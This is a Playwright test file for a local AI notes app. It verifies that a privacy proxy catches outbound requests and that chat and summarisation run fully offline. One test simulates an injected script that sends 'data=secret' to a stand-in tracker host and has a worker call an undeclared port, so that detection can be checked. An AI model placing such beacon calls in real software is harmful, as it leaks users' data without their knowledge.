import { expect, test } from './test';
import { privacyViolations, withoutBrowserServices, type LoggedRequest } from './privacy';
import { expectedReply } from '../test-support/make-tiny-model.mjs';
import { addTinyModel, appSettled, loadModel, MODEL_HOST, waitForServiceWorker } from './helpers';

test('the privacy check sees requests from the page, its workers and the service worker, and reports foreign ones', async ({
  page,
  privacy,
  baseURL,
}) => {
  // A fresh browser context: the service worker precaches the engine's wasm, which the page
  // itself never asks for at start, so those requests can only be the service worker's.
  await page.goto('/');
  await waitForServiceWorker(page);
  await expect
    .poll(async () => (await privacy.requestsSince()).map((r) => r.url).filter((url) => url.endsWith('.wasm')))
    .not.toEqual([]);

  // A script that slipped in and phones home: from the page (https, allowed by the CSP, so only
  // the proxy stands in the way) and from a worker to a loopback port nobody declared.
  const undeclared = 'http://127.0.0.1:4999'; // nothing listens there
  await page.evaluate(async (url) => {
    await fetch('https://tracker.example.net/beacon?data=secret').catch(() => undefined);
    const source = `fetch(${JSON.stringify(url)} + '/from-worker').catch(() => 0).then(() => postMessage('done'))`;
    const worker = new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
    await new Promise((resolve) => (worker.onmessage = resolve));
    worker.terminate();
  }, undeclared);

  const violations = await privacy.violations();
  expect(violations.map((r) => [r.method, r.url, r.outcome])).toEqual([
    ['CONNECT', 'https://tracker.example.net:443', 'refused'],
    ['GET', `${undeclared}/from-worker`, 'failed'],
  ]);
  // The app's own requests and the model host are fine; a sibling port or scheme is not.
  const sample = (url: string): LoggedRequest => ({ seq: 0, time: 0, method: 'GET', url, outcome: 'forwarded' });
  const allowed = [baseURL!, MODEL_HOST];
  expect(
    privacyViolations(
      [
        sample(`${baseURL}/assets/x.js`),
        sample(`${MODEL_HOST}/models/tiny.gguf`),
        sample('http://127.0.0.1:1/'),
        sample(baseURL!.replace('http:', 'https:')),
        sample('http://example.com/'),
      ],
      allowed,
    ).map((r) => r.url),
  ).toEqual(['http://127.0.0.1:1/', baseURL!.replace('http:', 'https:'), 'http://example.com/']);

  // Declared now, so this test itself passes the check it just proved.
  privacy.allow('https://tracker.example.net');
  privacy.allow(undeclared);
});

test('with a model stored and the network off, a full chat and a summary make no request at all', async ({
  page,
  privacy,
}) => {
  test.setTimeout(120_000);
  await page.goto('/');
  await waitForServiceWorker(page);
  await addTinyModel(page);

  // Network off at the proxy: every attempt is still recorded (see PrivacyRecorder.setNetworkOff).
  await privacy.setNetworkOff(true);
  const beforeStart = await privacy.mark();
  await page.reload();
  await expect(page.getByLabel('Model URL')).toBeVisible();
  await page.evaluate(() => navigator.serviceWorker.ready);
  // Starting, the only request is the browser's own check for a new service worker, which fails
  // harmlessly; everything else comes from the service worker's cache. Whatever start-up might
  // still send after this point falls in `during` below, which is checked as strictly.
  await appSettled(page);
  const atStart = withoutBrowserServices(await privacy.requestsSince(beforeStart));
  expect(atStart.filter((r) => !r.url.endsWith('/sw.js'))).toEqual([]);

  const mark = await privacy.mark();
  await page.goto('/#/chat');
  await loadModel(page);
  await page.getByRole('button', { name: 'Settings' }).click();
  await page.getByLabel('Max tokens').fill('24');
  await page.getByLabel('Max tokens').press('Tab');
  const composer = page.getByRole('textbox', { name: 'Message', exact: true });
  await composer.fill('Is this private?');
  await composer.press('Enter');
  await expect(page.getByTestId('reply-stats')).toContainText('24 tokens');
  await expect(page.getByTestId('message-assistant').getByTestId('message-text')).toHaveText(expectedReply(24));

  await page.goto('/#/summarize');
  await page.getByLabel('Text to summarize').fill('Nook keeps notes private. '.repeat(40));
  await page.getByRole('button', { name: 'Summarize', exact: true }).click();
  await expect(page.getByTestId('summary-history-item')).toHaveCount(1, { timeout: 60_000 });
  await expect(page.getByTestId('summary-text')).toHaveText(expectedReply(64).trim());
  await page.reload();
  await expect(page.getByTestId('summary-history-item')).toHaveCount(1);

  const during = withoutBrowserServices(await privacy.requestsSince(mark));
  expect(during.filter((r) => !(r.url.endsWith('/sw.js') && r.method === 'GET'))).toEqual([]);
});
